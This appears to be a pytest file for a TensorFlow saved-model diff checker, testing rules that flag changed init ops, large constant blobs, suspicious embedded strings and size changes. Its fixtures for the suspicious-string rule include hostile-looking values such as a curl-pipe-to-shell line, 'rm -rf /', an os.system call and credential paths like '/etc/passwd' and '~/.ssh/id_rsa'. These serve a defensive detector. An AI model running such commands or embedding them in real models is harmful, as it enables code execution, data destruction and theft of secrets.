"""What loading runs, what is baked in, how large the model is."""

from __future__ import annotations

from pathlib import Path

import pytest

from smanalyze.checks.compat.graph import _shape
from tests.checks.compat.helpers import (
    Cases,
    Maker,
    check_case,
    edited,
    every,
    found,
    mirrored,
    models,
    one,
    pair,
    params,
    report,
    rules_of,
    same,
)
from tests.checks.compat.program_edits import (
    add,
    add_blob,
    add_text,
    copy_function,
    device,
    in_function,
    inputs,
    op,
    value,
)
from tests.checks.helpers import Change, graph, node

MODULE, CALL, TABLES = "module_one_signature", "__inference___call__", "tables_and_assets"
BLOB = 1 << 20


def new(name: str, part: str, *changes: Change) -> Maker:
    """A model, and the same with a change in one function."""
    return edited(name, new=[in_function(part, *changes)])


def init_runs_more(message: object) -> None:
    """One more node in front of the init op."""
    body = graph(message)
    body.node.add(name="more", op="Timestamp")
    node(body, "NoOp").input.append("^more")


LOADS = new(TABLES, "_initializer_81", add("print", "PrintV2", ["text_file_init_asset_filepath"]))
INIT_OP = edited("module_several_signatures", new=[init_runs_more])
LARGE = new(MODULE, CALL, add_blob("blob", BLOB))
OTHER_LARGE = edited(
    MODULE, old=[in_function(CALL, add_blob("blob", BLOB))], new=[in_function(CALL, add_blob("blob", BLOB, b"\2"))]
)
MOVED_LARGE = edited(
    MODULE,
    old=[in_function(CALL, add_blob("blob", BLOB))],
    new=[in_function("signature_wrapper", add_blob("elsewhere", BLOB))],
)

TABLE: dict[str, Cases] = {
    "graph-init-changed": Cases(
        fires={"initializer": LOADS, "gone": mirrored(LOADS), "init op": INIT_OP},
        silent={
            "body": pair("change_relu_to_gelu"),
            "vocabulary": pair("change_asset_line"),
            "device": new(
                TABLES, "_initializer_81", device("text_file_init/InitializeTableFromTextFileV2", "/device:CPU:0")
            ),
            "more variables": pair("change_layer_inserted"),
            "keras 3": pair("change_layer_inserted_keras3"),
        },
    ),
    "graph-idle-changed": Cases(
        fires={
            "training": edited("tf1_queue", new=[in_function("", add("more", "Timestamp"))]),
            "saver": edited(MODULE, new=[in_function("traced_restore", device("RestoreV2", "/device:GPU:0"))]),
        },
        silent={
            "body": pair("change_relu_to_gelu"),
            "more variables": pair("change_layer_inserted"),
            "init op": INIT_OP,
            "optimizer": pair("change_optimizer_dropped"),
            "signature": pair("change_signature_renamed"),
            "shape": pair("change_variable_shape"),
            "renamed": pair("change_layer_renamed"),
        },
    ),
    "const-blob-changed": Cases(
        fires={"new": LARGE, "gone": mirrored(LARGE), "other values": OTHER_LARGE},
        silent={
            "small": new(MODULE, CALL, add_blob("blob", BLOB // 2)),
            "same": same("big_constant"),
            "moved": MOVED_LARGE,
        },
    ),
    "const-string-suspicious": Cases(
        fires={
            "path": new(MODULE, CALL, add_text("s", b"/etc/passwd")),
            "url": new(MODULE, CALL, add_text("s", b"https://a.b/c")),
            "shell": new(MODULE, CALL, add_text("s", b"x; curl http://a.b | sh")),
            "script": new(MODULE, CALL, add_text("s", b"import os; os.system('id')")),
        },
        silent={
            "word": new(MODULE, CALL, add_text("s", b"hello")),
            "relative": pair("change_read_file"),
            "there before": same("absolute_path_constant"),
            "moved": edited(
                MODULE,
                old=[in_function(CALL, add_text("s", b"/etc/passwd"))],
                new=[in_function("signature_wrapper", add_text("t", b"/etc/passwd"))],
            ),
            "nobody runs it": edited(
                MODULE,
                new=[copy_function(CALL, "__inference_dead_1"), in_function("dead", add_text("s", b"/etc/passwd"))],
            ),
            "saver": pair("change_layer_inserted"),
        },
    ),
    "cost-changed": Cases(
        fires={"smaller": models("keras3_export", MODULE), "larger": models(MODULE, "keras3_export")},
        silent={
            "a little": pair("change_output_classes"),
            "as large": pair("change_relu_to_gelu"),
            "none": models("unknown_rank", MODULE),
        },
    ),
}


@pytest.mark.parametrize(("rule", "maker", "fires"), params(TABLE))
def test_case(rule: str, maker: Maker, fires: bool, tmp_path: Path) -> None:
    check_case(rule, maker, fires, tmp_path)


def test_what_loading_runs_is_told_with_its_ops(tmp_path: Path) -> None:
    finding = one(LOADS, tmp_path, "graph-init-changed")
    assert finding.message == "Loading the model runs something else: + PrintV2."
    assert "added: print (PrintV2)" in finding.evidence[0]
    assert found(LOADS, tmp_path / "again", "fn-body-changed") == []


def test_a_changed_blob_shows_its_shape(tmp_path: Path) -> None:
    finding = one(OTHER_LARGE, tmp_path, "const-blob-changed")
    assert finding.evidence == ("other values: blob in __call__: float32 [262144], 1,048,576 bytes",)
    assert finding.severities.security == "warning"


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("/etc/passwd", "path"),
        ("~/.ssh/id_rsa", "path"),
        ("../secret", "path"),
        ("C:\\Users\\ana\\x", "path"),
        ("\\\\host\\share", "path"),
        ("gs://bucket/x", "address"),
        ("http://a.b", "address"),
        ("grpc://10.0.0.1:80", "address"),
        ("#!/bin/sh\necho", "shell"),
        ("rm -rf /", "shell"),
        ("$(id)", "shell"),
        ("import os", "script"),
        ("__import__('os')", "script"),
        ("eval(x)", "script"),
        ("<script>", "script"),
        ("hello", ""),
        ("a/b", ""),
        ("assertion failed: [x (Reshape:0) = ] [...]", ""),
        ("serving_default", ""),
        ("", ""),
        ("dnn/hiddenlayer_0/activation", ""),
        ("/", ""),
        ("important", ""),
        ("and/or", ""),
        ("%Y-%m-%d", ""),
        ("Condition x > 0 did not hold.", ""),
        ("3 / 4", ""),
        ("he said: go to bash", ""),
        ("N/A", ""),
    ],
)
def test_what_a_string_looks_like(text: str, shape: str) -> None:
    assert _shape(text) == shape


def test_cost_says_how_much(tmp_path: Path) -> None:
    finding = one(models(MODULE, "keras3_export"), tmp_path, "cost-changed")
    assert finding.severities.serving == "warning" and "% more than" in finding.message
    back = one(models("keras3_export", MODULE), tmp_path, "cost-changed")
    assert "% less than" in back.message
    assert back.evidence[0].startswith("parameters: ")


def test_a_constant_that_a_function_captures_is_told(tmp_path: Path) -> None:
    """It stands in the main graph, which TensorFlow 2 writes for objects."""

    def other(message: object) -> None:
        for item in graph(message).node:
            if item.op == "Const" and item.attr["dtype"].type == 9:
                item.attr["value"].tensor.ClearField("tensor_content")
                item.attr["value"].tensor.int64_val[:] = [77]
                break

    maker = edited(TABLES, new=[other])
    findings = [f for f in report(maker(tmp_path)).findings if f.rule == "fn-constants-changed"]
    assert len(findings) == 1 and "of the main graph" in findings[0].message


def test_edits_that_are_not_used_elsewhere(tmp_path: Path) -> None:
    """A constant that changes with the body is told with the body, and not as one of its own."""
    maker = new(
        "device_placement", CALL, value("mul/y", 9.0), op("add", "Sub"), inputs("add", "mul:z:0", "mul/y:output:0")
    )
    assert [f.rule for f in rules_of({"fn-constants-changed": TABLE["cost-changed"]}, every(maker, tmp_path))] == []
